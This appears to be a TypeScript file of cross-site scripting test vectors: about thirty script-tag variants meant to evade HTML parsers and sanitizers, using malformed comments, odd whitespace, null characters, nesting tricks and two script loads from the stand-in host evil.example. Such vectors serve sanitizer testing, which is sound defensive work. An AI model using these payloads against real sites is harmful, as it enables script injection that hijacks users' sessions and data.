import type { Vectors } from "./vectors.ts";

/** Script elements, written to be missed by some parsers. */
export const scripts: Vectors = {
  "a script": "<script>RUN</script>",
  "a script in mixed case": "<ScRiPt>RUN</sCrIpT>",
  "a script with a slash behind its name": "<script/x>RUN</script>",
  "a script with a line break in its tag": "<script\n>RUN</script\n>",
  "a script with a form feed in its tag": "<script\f>RUN</script>",
  "a script whose end tag has attributes": '<script>RUN</script foo="bar" / >',
  "a script behind a script that is not finished": "<scr<script>ipt>RUN</scr</script>ipt><script>RUN</script>",
  "a script after a stray bracket": "<<script>RUN//<</script>",
  "a script behind a comment that ends at once": "<!--><script>RUN</script>-->",
  "a script behind a comment that ends with a dash": "<!---><script>RUN</script>-->",
  "a script behind a comment that ends with a bang": "<!-- --!><script>RUN</script> -->",
  "a script behind a conditional comment": "<!--[if true]><!--><script>RUN</script><!--<![endif]-->",
  "a script behind a processing instruction": '<?xml version="1.0"?><script>RUN</script>',
  "a script behind a bogus end tag": "</ ><script>RUN</script>",
  "a script behind a doctype": "<!doctype html><script>RUN</script>",
  "a script behind a CDATA section that HTML has none of": "<![CDATA[><script>RUN</script>]]>",
  "a script in a table, which moves it out": "<table><script>RUN</script></table>",
  "a script in a list of choices": "<select><script>RUN</script></select>",
  "a script in a body and a head": "</div></body><head><script>RUN</script></head>",
  "a module": "<script type=module>RUN</script>",
  "a script of an old kind": "<script language=javascript type=text/ecmascript>RUN</script>",
  "a script for those without modules and one with":
    '<script nomodule>RUN</script><script type="text/javascript">RUN</script>',
  "a script with a nonce and a hash that are guessed":
    "<script nonce=abc integrity=sha256-x crossorigin=use-credentials></script><script nonce=abc>RUN</script>",
  "a script from elsewhere": "<script src=//evil.example/ID></script>",
  "a script from elsewhere, deferred": "<script defer src=http://evil.example/ID></script>",
  "a script out of data": '<script src="data:text/javascript,RUN"></script>',
  "a script behind a null character": "\u0000<script>RUN</script>",
  "a script within a paragraph that nothing closes": "<p><b><i><script>RUN</script>",
};
